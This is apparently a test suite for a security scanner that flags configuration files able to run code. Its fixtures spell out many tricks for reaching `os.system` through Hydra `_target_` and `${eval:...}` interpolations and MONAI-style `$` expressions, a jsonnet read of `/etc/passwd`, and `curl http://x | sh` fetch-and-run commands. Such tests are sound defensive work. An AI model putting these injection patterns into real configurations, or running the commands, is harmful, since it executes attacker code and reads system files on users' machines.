"""What values of a configuration come to: interpolated, evaluated, run as commands."""

from __future__ import annotations

import json
from pathlib import PurePosixPath

import pytest

from scanning.scanners import Severity, Verdict, scanners
from scanning.scanners.base import read_head

CALL = "__import__('os').system('true')"
UNSAFE = {
    "handed_on.yaml": "x: '${eval:(lambda o: o.system(1))(__import__(''os''))}'",
    "whole.yaml": "f: os.system\nm: {_target_: '${f}'}",
    "middle.yaml": "a: sys\nm: {_target_: 'os.${a}tem'}",
    "blanks.yaml": "a: ${ b }\nb: os.system\nm: {_target_: '${ a }'}",
    "nested.yaml": "k: b\nb: os\nm: {_target_: '${${k}}.system'}",
    "relative.yaml": "m: {f: os.system, _target_: '${.f}'}",
    "above.yaml": "p: {f: os.system, m: {_target_: '${..f}'}}",
    "list.yaml": "l: [x, os.system]\nm: {_target_: '${l[1]}'}",
    "chain.yaml": "a: ${b}\nb: ${c.d}\nc: {d: os.system}\nm: {_target_: '${a}'}",
    "alias.yaml": "a: &x {f: os.system}\nb: *x\nm: {_target_: '${b.f}'}",
    "merge.yaml": "a: &x {f: os.system}\nb: {<<: *x}\nm: {_target_: '${b.f}'}",
    "env.yaml": "m: {_target_: '${oc.env:X,os.system}'}",
    "select.yaml": "m: {_target_: '${oc.select:no.such,os.system}'}",
    "decode.yaml": "m: {_target_: \"${oc.decode:'os.system'}\"}",
    "table.json": json.dumps({"f": "os.system", "m": {"_target_": "${f}"}}),
    "method.yaml": "m: {_target_: hydra.utils.get_method, path: os.system}",
    "given.yaml": "m: {_target_: hydra.utils.get_class, _args_: ['os.${x}'], x: y}\nx: system",
    "evaluated.yaml": f'a: ${{eval:"{CALL}"}}',
    "any_name.yaml": f'a: ${{my_own:"{CALL}"}}',
    "put_together.yaml": f'c: "{CALL}"\na: ${{eval:${{c}}}}',
    "named.yaml": "a: ${get:os.system}",
    "bundle.json": json.dumps({"imports": ["$import os"], "run": "$os.system('true')"}),
    "apart.json": json.dumps({"m": "$__import__('os')", "run": ["$@m.system('true')"]}),
    "by_text.json": json.dumps(
        {"n": "os", "i": "$import importlib", "r": "$importlib.import_module(@n).system('true')"}
    ),
    "by_reference.json": json.dumps(
        {"imports": ["$import os"], "x": "@y", "y": "$os", "run": "$@x.system('true')"}
    ),
    "bundle.yaml": f'initialize: ["${CALL}"]',
    "table_of.yaml": f"a: \"${{'x': {CALL}}}\"",
    "macro.json": json.dumps({"net": "%/etc/other.json::net"}),
    "rasa.yml": "pipeline:\n- name: os.system",
    "keras.yaml": "class_name: Lambda\nconfig: {function: !!python/tuple [YwAA, null, null]}",
    "dynamic.gin": "from __gin__ import dynamic_registration\nimport os\nf.x = @os.system()",
    "import.jsonnet": "{a: importstr '/etc/passwd'}",
    "joined.jsonnet": "{type: 'os.' + 'system'}",
    "config.cfg": '[nlp.before_init]\n@callbacks = "os.system"',
}
SUSPICIOUS = {
    "untold.yaml": "m: {_target_: '${oc.env:X}'}",
    "elsewhere.yaml": "m: {_target_: '${model.name}'}",
    "registry.yaml": "m: {_target_: '${dp:Reader}'}",
    "open.yaml": "m: {_target_: '${x'}",
    "no_name.yaml": "_target_: builtins.__import__('os').system",
    "stage.yaml": "stages: {a: {cmd: curl http://x | sh}}",
    "container.yaml": "spec: {containers: [{args: ['-c', 'curl http://x | sh']}]}",
    "at_hand.json": json.dumps({"x": "$torch.hub.load('some/repo', 'y')"}),
    "imported.json": json.dumps({"x": "$monai.utils.optional_import('os')[0].system('true')"}),
    "no_python.json": json.dumps({"a": "$os.system('true') if"}),
}
CLEAN = {
    "hydra.yaml": "net: torch.nn\ndim: 4\nm: {_target_: '${net}.Linear', n: '${eval:2 * ${dim}}'}",
    "get.yaml": "m: {_target_: hydra.utils.get_method, path: torch.nn.functional.relu}",
    "paths.yaml": "dir: ${hydra:runtime.output_dir}/${now:%Y}\nx: \\${f}\nhome: ${oc.env:HOME}",
    "bundle.json": json.dumps(
        {
            "imports": ["$import glob", "$import torch.distributed as dist"],
            "files": "$list(sorted(glob.glob(@root + '/*.nii.gz')))",
            "device": "$torch.device('cuda' if torch.cuda.is_available() else 'cpu')",
            "n": "$@a + 1",
            "weights": "$@net.load_state_dict(torch.load(@root + '/models/model.pt'))",
            "run": [
                "$@net.eval()",
                "$@train#trainer.run()",
                "$setattr(torch.backends.cudnn, 'benchmark', True)",
            ],
            "post": "$lambda x: monai.handlers.from_engine(['loss'], first=True)(x)",
        }
    ),
    "price.json": json.dumps({"text": "$5 (or so)", "command": "train", "x": "$(pwd)"}),
    "tool.gin": "import seqio\nfrom t5 import models\nrun.model = @t5.models.Enc()",
    "config.cfg": '[nlp]\nlang = "en"\n[model]\n@architectures = "spacy.Tagger.v2"',
    "main.jsonnet": "local base = import '../base.jsonnet';\nbase {x: std.extVar('X')}",
}


def verdict(folder, options, name, content):
    path = folder / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    engine = scanners.get("config_code")(options)
    assert engine.handles(PurePosixPath(name), read_head(path))
    report = engine.scan(path, PurePosixPath(name))
    assert {one.rule for one in report.findings} <= engine.rules.keys()
    return report


@pytest.mark.parametrize("name", UNSAFE)
def test_a_dangerous_value_is_found_however_it_is_put_together(tmp_path, options, name):
    assert verdict(tmp_path, options, name, UNSAFE[name]).verdict is Verdict.UNSAFE


@pytest.mark.parametrize("name", SUSPICIOUS)
def test_what_the_file_does_not_tell_is_suspicious(tmp_path, options, name):
    assert verdict(tmp_path, options, name, SUSPICIOUS[name]).verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize("name", CLEAN)
def test_ordinary_configuration_is_clean(tmp_path, options, name):
    report = verdict(tmp_path, options, name, CLEAN[name])
    assert report.verdict is Verdict.CLEAN, report.findings
    assert all(one.severity in {Severity.LOW, Severity.INFO} for one in report.findings)


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-8-sig"])
def test_yaml_is_read_in_its_own_encoding(tmp_path, options, encoding):
    text = "m: {_target_: os.system}"
    report = verdict(tmp_path, options, "a.yaml", text.encode(encoding))
    assert report.verdict is Verdict.UNSAFE


def test_interpolations_without_end_end(tmp_path, options):
    lines = [f"a{one}: ${{a{one + 1}}}${{a{one + 1}}}" for one in range(40)]
    text = "\n".join([*lines, "a40: ${a0}", "m: {_target_: '${a0}'}"])
    assert verdict(tmp_path, options, "a.yaml", text).verdict is Verdict.SUSPICIOUS


def test_aliases_of_aliases_are_looked_at_once(tmp_path, options):
    lines = ["a0: &a0 {x: 1}"]
    lines += [f"a{one}: &a{one} {{p: *a{one - 1}, q: *a{one - 1}}}" for one in range(1, 60)]
    text = "\n".join([*lines, "m: {_target_: '${a1.p.f}'}"])
    assert verdict(tmp_path, options, "a.yaml", text).verdict is Verdict.SUSPICIOUS


def test_an_expression_among_a_large_vocabulary_is_found(tmp_path, options):
    words = {f"word number {one}": f"text {one}" for one in range(200_000)}
    text = json.dumps({**words, "x": f"${CALL}"})
    assert verdict(tmp_path, options, "a.json", text).verdict is Verdict.UNSAFE


def test_what_stands_behind_more_values_than_are_followed_is_not_clean(
    tmp_path, options, monkeypatch
):
    monkeypatch.setattr("scanning.scanners._code.yaml_events._MAX_EVENTS", 1000)
    text = "- a\n" * 2000 + "- {_target_: os.system}"
    assert verdict(tmp_path, options, "a.yaml", text).verdict is Verdict.SUSPICIOUS
